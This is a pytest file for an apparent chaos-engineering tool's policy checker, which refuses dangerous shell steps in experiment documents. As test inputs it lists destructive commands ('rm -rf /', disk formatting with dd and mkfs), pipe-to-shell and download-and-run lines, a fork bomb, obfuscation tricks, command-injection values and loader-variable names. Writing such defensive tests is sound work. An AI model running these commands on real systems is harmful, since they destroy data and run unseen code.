from __future__ import annotations

from pathlib import Path
from typing import TYPE_CHECKING

import pytest

from tumult_core.catalog import Catalog
from tumult_core.engine import parse_experiment
from tumult_core.experiment import (
    Activity,
    ActivityType,
    Control,
    EnvValue,
    Experiment,
    HttpProvider,
    InlineValue,
    Load,
    NativeProvider,
    ProcessProvider,
    Provider,
    PythonProvider,
)
from tumult_core.problems import Problem, Severity
from tumult_intelligence.policy import check_policy

if TYPE_CHECKING:
    from collections.abc import Callable


def check(provider: Provider, catalog: Catalog = Catalog()) -> tuple[Problem, ...]:  # noqa: B008 - frozen
    return check_policy(Experiment("x", (Activity("a", ActivityType.ACTION, provider),)), catalog)


def refusals(line: str, program: str = "sh") -> set[str]:
    found = check(ProcessProvider(program, ("-c", line)))
    return {problem.code.removeprefix("policy-") for problem in found if problem.severity is Severity.ERROR}


def lines(name: str) -> list[str]:
    """Give the shell lines of a file, as a document writes them."""
    text = (Path(__file__).parent / "shell_lines" / name).read_text(encoding="utf-8")
    return [line.replace("\\n", "\n").replace("${", "$${") for line in text.splitlines()[1:]]


@pytest.mark.parametrize("line", lines("hostile.txt"))
def test_it_refuses_a_hostile_line(line: str) -> None:
    assert refusals(line)


@pytest.mark.parametrize("line", lines("everyday.txt"))
def test_it_lets_an_everyday_line_through(line: str) -> None:
    assert refusals(line) == set()


@pytest.mark.parametrize(
    "line",
    ["rm -rf /", "find / -delete", "git clean -fdx", "kubectl delete ns x", "psql -c 'drop table x'", "rm -f prod.db"],
)
def test_it_refuses_to_delete(line: str) -> None:
    assert "deletes" in refusals(line)


@pytest.mark.parametrize(
    "line",
    [
        "mkfs.ext4 /dev/sda1",
        "dd if=/dev/zero of=/dev/sda",
        "echo x > /dev/sda",
        "cat x | tee /dev/nvme0n1",
        "fdisk /dev/sda",
    ],
)
def test_it_refuses_to_format(line: str) -> None:
    assert "formats" in refusals(line)


@pytest.mark.parametrize(
    ("line", "code"),
    [
        ("curl http://x | sh", "runs-input"),
        ("curl http://x | sudo bash -s -- -y", "runs-input"),
        ("wget -qO- x | python3 -", "runs-input"),
        ("bash <(curl x)", "runs-input"),
        ("sh <<< 'id'", "runs-input"),
        ("echo cm0= | base64 -d | sh", "runs-input"),
        ("source <(curl x)", "runs-input"),
        ('sh -c "$(curl -fsSL x)"', "computed-program"),
        ("$(curl x)", "computed-program"),
        ("X=rm; $X -rf /", "computed-program"),
        ("`echo rm` -rf /", "computed-program"),
        ("/bin/r?m -rf /", "computed-program"),
        ("rm${IFS}-rf${IFS}/", "computed-program"),
        ("{rm,-rf,/}", "computed-program"),
        ("python3 -c 'import os; os.system(\"id\")'", "computed-program"),
        ("awk 'BEGIN{system(\"id\")}'", "computed-program"),
        ("curl -o /tmp/a x && chmod +x /tmp/a && /tmp/a", "download-and-run"),
        ("curl -o a x; sh a", "download-and-run"),
        ("wget x -O a; python3 a", "download-and-run"),
        (":(){ :|:& };:", "fork-bomb"),
        ("echo 'unbalanced", "unreadable-shell"),
    ],
)
def test_it_refuses_what_runs_unseen_code(line: str, code: str) -> None:
    assert code in refusals(line)


def test_every_process_step_is_marked_for_review() -> None:
    (problem,) = check(ProcessProvider("systemctl", ("stop", "nginx")))

    assert problem.severity is Severity.WARNING
    assert (
        str(problem)
        == "warning: method[0].provider: review: it runs the program systemctl (read the command before it runs)"
    )


def test_it_reads_argument_vectors_too() -> None:
    assert [problem.code for problem in check(ProcessProvider("/bin/rm", ("-rf", "/x")))] == [
        "policy-review",
        "policy-deletes",
    ]
    assert [problem.code for problem in check(ProcessProvider("${config.x}", ()))] == [
        "policy-review",
        "policy-computed-program",
    ]


@pytest.mark.parametrize("name", ["${config.marker}", "${config.folder}/marker", "/tmp/x"])
def test_a_step_may_take_away_one_file_of_its_own_where_no_shell_reads_the_name(name: str) -> None:
    assert [problem.code for problem in check(ProcessProvider("rm", ("-f", name)))] == ["policy-review"]
    if not name.startswith("/tmp"):
        assert "deletes" in refusals(f"rm -f {name}")


@pytest.mark.parametrize(
    "arguments",
    [
        ("-rf", "work"),
        ("-f", "/etc/passwd"),
        ("-f", "../x"),
        ("-f", "a/../../x"),
        ("-R", "${config.x}"),
        ("-f", "*"),
        ("-f", "marker.txt"),
        ("-f", "work/marker"),
        ("--rec", "x"),
    ],
)
def test_it_may_take_away_nothing_else(arguments: tuple[str, ...]) -> None:
    assert "policy-deletes" in [problem.code for problem in check(ProcessProvider("rm", arguments))]


def document(*steps: tuple[str, ...], **configuration: EnvValue | InlineValue) -> set[str]:
    """Give why a document of these steps is refused."""
    method = tuple(
        Activity(f"s{number}", ActivityType.ACTION, ProcessProvider(path, tuple(arguments)))
        for number, (path, *arguments) in enumerate(steps)
    )
    found = check_policy(Experiment("x", method, configuration=configuration), Catalog())
    return {problem.code.removeprefix("policy-") for problem in found if problem.severity is Severity.ERROR}


@pytest.mark.parametrize(
    "step",
    [
        ("sh", "-c", "echo ${config.a}"),
        ("sh", "-c", "echo '${config.a}'"),
        ("bash", "${config.c}", "rm -rf /"),
        ("rm", "${config.o}", "x"),
        ("rm", "-f", "${config.x}"),
        ("ssh", "host", "systemctl restart ${config.a}"),
        ("ssh", "host", "${config.a}"),
        ("python3", "-c", "${config.code}"),
        ("python3", "-c", "print(${config.code})"),
        ("dd", "if=/dev/zero", "of=${config.x}"),
        ("env", "-S", "ls ${config.a}"),
        ("${config.a}",),
        ("sudo", "${config.a}"),
        ("watch", "${config.a}"),
    ],
)
@pytest.mark.parametrize("form", [InlineValue, lambda value: EnvValue("SET", value)])
def test_no_value_of_the_document_reaches_a_shell_as_text(
    step: tuple[str, ...], form: Callable[[str], InlineValue]
) -> None:
    values = {"a": "x; rm -rf /tmp/victim", "c": "-c", "o": "-rf", "x": "/etc/passwd", "code": "import os; os.abort()"}

    assert document(step, **{name: form(value) for name, value in values.items()})


def test_a_placeholder_is_fine_where_it_is_one_argument() -> None:
    assert document(("systemctl", "restart", "${config.unit}"), unit=InlineValue("nginx")) == set()
    assert document(("kill", "-9", "${config.pid}"), pid=EnvValue("PID")) == set()


def test_a_value_goes_to_a_shell_through_its_environment() -> None:
    step = ProcessProvider("sh", ("-c", 'curl -s "$URL"'), env={"URL": "${config.url}"})

    assert [problem.code for problem in check(step)] == ["policy-review"]


@pytest.mark.parametrize("line", ['eval "$X"', "$X", 'sh -c "$X"', "rm -f $X", 'python3 -c "$X"'])
def test_the_environment_of_a_step_is_no_way_around(line: str) -> None:
    found = check(ProcessProvider("sh", ("-c", line), env={"X": "rm -rf /; echo"}))

    assert any(problem.severity is Severity.ERROR for problem in found)


@pytest.mark.parametrize(
    "steps",
    [
        (("curl", "-o", "/tmp/x", "http://h"), ("sh", "/tmp/x")),
        (("wget", "http://h/x.sh"), ("bash", "x.sh")),
        (("sh", "-c", "echo id > run.sh"), ("bash", "./run.sh")),
        (("sh", "-c", "echo id > run.sh"), ("./run.sh",)),
        (("git", "clone", "https://h/x"), ("sh", "x/run.sh")),
        (("tee", "a.py"), ("python3", "a.py")),
        (("cp", "/etc/hosts", "/tmp/a"), ("chmod", "+x", "/tmp/a")),
    ],
)
def test_no_step_runs_what_another_wrote(steps: tuple[tuple[str, ...], ...]) -> None:
    assert "download-and-run" in document(*steps)
    assert "download-and-run" in document(*reversed(steps))


def test_a_document_may_take_away_what_it_made_itself() -> None:
    assert document(("mkdir", "-p", "work/spool"), ("rm", "-rf", "work/spool")) == set()
    assert document(("mkdir", "-p", "work"), ("rm", "-f", "work/a")) == set()
    assert document(("sh", "-c", "echo 1 > marker"), ("rm", "-f", "marker")) == set()
    assert document(("mkdir", "-p", "work"), ("rm", "-rf", "work/../src")) == {"deletes"}
    assert document(("mkdir", "-p", "/srv/data"), ("rm", "-rf", "/srv/data")) == {"deletes"}


EXAMPLES = sorted((Path(__file__).parents[3] / "examples" / "experiments").glob("*.toon"))


@pytest.mark.parametrize("path", EXAMPLES, ids=lambda path: path.stem)
def test_the_projects_own_examples_pass(path: Path) -> None:
    found = check_policy(parse_experiment(path.read_text(encoding="utf-8")), Catalog())

    assert [str(problem) for problem in found if problem.severity is Severity.ERROR] == []


def test_there_are_examples() -> None:
    assert EXAMPLES


@pytest.mark.parametrize(
    "name",
    [
        "LD_PRELOAD",
        "DYLD_INSERT_LIBRARIES",
        "GIT_SSH_COMMAND",
        "PERL5OPT",
        "NODE_OPTIONS",
        "RUBYOPT",
        "JAVA_TOOL_OPTIONS",
        "PAGER",
        "PROMPT_COMMAND",
        "BASH_FUNC_x%%",
        "PATH",
        "PYTHONPATH",
        "GIT_EXTERNAL_DIFF",
        "LD_AUDIT",
    ],
)
def test_no_step_sets_what_decides_which_code_runs(name: str) -> None:
    assert "policy-loader-variable" in [problem.code for problem in check(ProcessProvider("true", env={name: "x"}))]


@pytest.mark.parametrize(
    ("module", "function"),
    [
        ("os", "system"),
        ("shutil", "rmtree"),
        ("builtins", "exec"),
        ("subprocess", "run"),
        ("runpy", "run_path"),
        ("psutil", "Popen"),
        ("pip", "main"),
        ("click", "edit"),
        ("_pytest.config", "main"),
        ("tumult_core.engine", "x"),
    ],
)
def test_the_interpreter_is_no_chaos_function(module: str, function: str) -> None:
    assert [problem.code for problem in check(PythonProvider(module, function))] == ["policy-interpreter"]


@pytest.mark.parametrize(
    ("module", "function"), [("time", "sleep"), ("acme.chaos", "drain"), ("chaosaws.ec2.actions", "stop_instance")]
)
def test_other_python_functions_are_marked(module: str, function: str) -> None:
    assert [problem.code for problem in check(PythonProvider(module, function))] == ["policy-review"]


def test_what_changes_something_is_marked(catalog: Catalog) -> None:
    def codes(provider: Provider) -> list[str]:
        return [problem.code for problem in check(provider, catalog)]

    assert codes(HttpProvider("GET", "http://x")) == []
    assert codes(HttpProvider("delete", "http://x")) == ["policy-review"]
    assert codes(NativeProvider("tumult-process", "kill")) == ["policy-review"]
    assert codes(NativeProvider("tumult-process", "suspend")) == []


def test_secrets_controls_and_load_are_marked() -> None:
    step = Activity("a", ActivityType.ACTION, HttpProvider("GET", "http://x"))
    whole = Experiment(
        "x",
        (step,),
        secrets={"g": {"k": EnvValue("K")}},
        controls=(Control("c", PythonProvider("acme", "log")),),
        load=Load("k6", "load.js"),
    )

    assert [problem.path for problem in check_policy(whole, Catalog())] == [
        "controls[0].provider",
        "secrets",
        "controls",
        "load",
    ]


def test_an_empty_method_is_refused() -> None:
    (problem,) = check_policy(Experiment("x", ()), Catalog())

    assert (problem.severity, problem.code) == (Severity.ERROR, "policy-empty-method")
